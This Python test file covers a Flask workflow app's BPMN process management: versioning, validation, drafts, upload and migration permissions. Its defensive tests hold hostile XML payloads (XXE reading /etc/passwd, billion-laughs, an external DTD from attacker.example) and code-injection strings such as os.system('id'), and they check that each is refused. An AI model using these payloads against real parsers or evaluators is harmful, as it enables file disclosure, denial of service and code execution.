"""Process owners: versions and counts, validation naming elements, drafts, deploy, upload, migration —
and the attacks through the upload and save routes, refused with nothing executed and nothing stored."""

from __future__ import annotations

import io
import re

import pytest
from flask import Flask

from engine.models import DefinitionDraft
from tests.web.browsing import csrf_token, sign_in, text
from workflows.catalog import shipped_files

KEY = "contract_signing"


def _owner(app: Flask):  # type: ignore[no-untyped-def]
    client = app.test_client()
    sign_in(client, "per.prosesseier")
    return client


def _xml_post(client, path: str, xml: str):  # type: ignore[no-untyped-def]
    return client.post(path, data=xml.encode(), content_type="application/xml",
                       headers={"X-CSRFToken": csrf_token(client)})


def _engine(app: Flask):  # type: ignore[no-untyped-def]
    return app.extensions["fagflyt.engine"]


def _renamed(xml: str, old: str, new: str) -> str:
    assert f'name="{old}"' in xml
    return xml.replace(f'name="{old}"', f'name="{new}"', 1)


def test_process_list_shows_versions_and_running_cases(demo_app: Flask):
    page = text(_owner(demo_app).get("/processes"))
    assert 'id="process-contract_signing"' in page and "v1" in page
    detail = text(_owner(demo_app).get(f"/processes/{KEY}"))
    running = _engine(demo_app).versions(KEY)[0].running
    assert running > 0 and f"<td>{running}</td>" in detail


def test_valid_edit_deploys_as_next_version_and_only_new_cases_take_it(demo_app: Flask):
    engine = _engine(demo_app)
    client = _owner(demo_app)
    old_case = engine.ready_tasks(roles=["saksbehandler"], limit=1)[0].case_id
    xml = engine.definition(KEY).xml
    title = re.search(r'<bpmn:userTask id="([^"]+)" name="([^"]+)"', xml)
    edited = _renamed(xml, title.group(2), "Skriv kontraktutkastet")
    check = _xml_post(client, f"/processes/{KEY}/validate", edited).get_json()
    assert check == {"valid": True, "problems": []}
    deployed = _xml_post(client, f"/processes/{KEY}/deploy", edited)
    assert deployed.status_code == 200 and deployed.get_json()["version"] == 2
    assert engine.definition(KEY).version == 2
    new_case = engine.start_case(KEY, "sara")
    assert [t.title for t in new_case.open_tasks] == ["Skriv kontraktutkastet"]
    old_instance = engine.instances(old_case)[0]
    assert engine.definition(KEY, 1).id == old_instance.definition_id
    again = _xml_post(client, f"/processes/{KEY}/deploy", edited)
    assert again.status_code == 422  # nothing changed: no version 3


def test_invalid_edit_is_refused_with_problems_naming_elements(demo_app: Flask):
    engine = _engine(demo_app)
    client = _owner(demo_app)
    xml = engine.definition(KEY).xml
    form_key = re.search(r'name="formKey" value="([^"]+)"', xml).group(1)
    broken = xml.replace(f'value="{form_key}"', 'value="no.such.form"', 1)
    response = _xml_post(client, f"/processes/{KEY}/deploy", broken)
    assert response.status_code == 422
    problems = response.get_json()["problems"]
    assert any("no.such.form" in p["text"] and p.get("element_id") for p in problems)
    assert engine.definition(KEY).version == 1


@pytest.mark.parametrize("timer", ['"P14X"', '"2026-13-45T00:00:00Z"'])
def test_bad_timer_expression_is_named(demo_app: Flask, timer: str):
    engine = _engine(demo_app)
    xml = engine.definition(KEY).xml
    found = re.search(r"<bpmn:timeDuration[^>]*>([^<]+)</bpmn:timeDuration>", xml)
    if found is None:
        pytest.skip("no duration timer in this process")
    broken = xml.replace(found.group(0), found.group(0).replace(found.group(1), timer), 1)
    problems = _xml_post(_owner(demo_app), f"/processes/{KEY}/validate", broken).get_json()["problems"]
    assert problems and all(p.get("element_id") for p in problems)


def test_draft_is_saved_reopened_and_discarded(demo_app: Flask):
    engine = _engine(demo_app)
    client = _owner(demo_app)
    xml = engine.definition(KEY).xml.replace("<bpmn:process ", "<bpmn:process ", 1)
    assert _xml_post(client, f"/processes/{KEY}/draft", xml).get_json()["saved"] is True
    assert engine.draft(KEY).xml == xml
    page = text(client.get(f"/processes/{KEY}/modeler"))
    assert "draft=1" in page
    client.post(f"/processes/{KEY}/draft/delete", data={"csrf_token": csrf_token(client)})
    assert engine.draft(KEY) is None


def test_download_and_upload(demo_app: Flask):
    client = _owner(demo_app)
    download = client.get(f"/processes/{KEY}/xml?download=1")
    assert download.headers["Content-Disposition"].endswith('.bpmn"')
    body = download.get_data()
    assert body == shipped_files()["contract_signing.bpmn"]
    upload = client.post("/processes/upload", data={"csrf_token": csrf_token(client),
                                                    "file": (io.BytesIO(body), "contract_signing.bpmn")},
                         content_type="multipart/form-data")
    assert upload.status_code == 302 and upload.headers["Location"].endswith(f"/processes/{KEY}/modeler")
    assert _engine(demo_app).draft(KEY) is not None


XXE = """<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">
<bpmn:process id="contract_signing" isExecutable="true"><bpmn:startEvent id="s" name="&x;"/></bpmn:process>
</bpmn:definitions>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">
<bpmn:process id="contract_signing" isExecutable="true"><bpmn:startEvent id="s" name="&c;"/></bpmn:process>
</bpmn:definitions>"""
DTD = """<?xml version="1.0"?>
<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">
<bpmn:process id="contract_signing" isExecutable="true"><bpmn:startEvent id="s"/></bpmn:process>
</bpmn:definitions>"""


@pytest.mark.parametrize("attack", [XXE, LAUGHS, DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_hostile_xml_is_refused_everywhere_and_nothing_is_stored(demo_app: Flask, attack: str):
    engine = _engine(demo_app)
    client = _owner(demo_app)
    assert _xml_post(client, f"/processes/{KEY}/draft", attack).status_code == 422
    assert _xml_post(client, f"/processes/{KEY}/deploy", attack).status_code == 422
    assert _xml_post(client, f"/processes/{KEY}/validate", attack).get_json()["valid"] is False
    upload = client.post("/processes/upload", data={"csrf_token": csrf_token(client),
                                                    "file": (io.BytesIO(attack.encode()), "evil.bpmn")},
                         content_type="multipart/form-data")
    assert upload.status_code == 302 and upload.headers["Location"].endswith("/processes")
    assert engine.draft(KEY) is None and engine.definition(KEY).version == 1
    with engine.db.read() as s:
        assert s.query(DefinitionDraft).count() == 0


CODE = [
    ("condition", lambda xml: re.sub(r"(<bpmn:conditionExpression[^>]*>)[^<]+", r"\1__import__('os').system('id')",
                                     xml, count=1)),
    ("timer", lambda xml: re.sub(r"(<bpmn:time(?:Duration|Date)[^>]*>)[^<]+", r"\1open('/etc/passwd').read()", xml,
                                 count=1)),
    ("property", lambda xml: re.sub(r'name="dueDate" value="[^"]+"', 'name="dueDate" value="().__class__"', xml,
                                    count=1)),
    ("service parameter", lambda xml: re.sub(r'(<spiffworkflow:parameter id="[^"]+" type="[^"]+" value=")[^"]+',
                                             r"\1eval('1')", xml, count=1)),
]


@pytest.mark.parametrize(("site", "inject"), CODE, ids=[c[0] for c in CODE])
def test_code_in_expressions_is_refused_through_save_and_deploy(demo_app: Flask, site, inject):
    engine = _engine(demo_app)
    client = _owner(demo_app)
    for key in ("contract_signing", "follow_up_half_year", "trade_test"):
        xml = engine.definition(key).xml
        hostile = inject(xml)
        if hostile != xml:
            break
    else:
        pytest.skip(f"no {site} to inject into")
    response = _xml_post(client, f"/processes/{key}/deploy", hostile)
    assert response.status_code == 422
    assert any(p.get("element_id") for p in response.get_json()["problems"])
    assert engine.definition(key).version == 1


def test_migration_check_and_move_by_an_administrator(demo_app: Flask):
    engine = _engine(demo_app)
    owner = _owner(demo_app)
    xml = engine.definition(KEY).xml
    title = re.search(r'<bpmn:userTask id="([^"]+)" name="([^"]+)"', xml)
    assert _xml_post(owner, f"/processes/{KEY}/deploy", _renamed(xml, title.group(2), "Nytt navn")).status_code == 200
    instance = next(i for t in engine.ready_tasks(roles=["saksbehandler"], limit=50)
                    for i in engine.instances(t.case_id) if i.process_key == KEY and i.status == "running")
    # a process owner cannot migrate
    assert owner.get(f"/processes/{KEY}/migrate?instance={instance.id}&to=2").status_code == 404
    admin = demo_app.test_client()
    sign_in(admin, "anne.admin")
    preview = admin.get(f"/processes/{KEY}/migrate?instance={instance.id}&to=2")
    assert preview.status_code == 200 and f'id="check-{instance.id}"' in text(preview)
    moved = admin.post(f"/processes/{KEY}/migrate", data={"csrf_token": csrf_token(admin), "instance": instance.id,
                                                          "to": 2})
    assert moved.status_code == 302
    assert engine.instances(instance.case_id)[0].definition_id == engine.definition(KEY, 2).id
    assert any(h.action == "migrated" and h.actor == "anne.admin" for h in engine.history(instance.case_id))
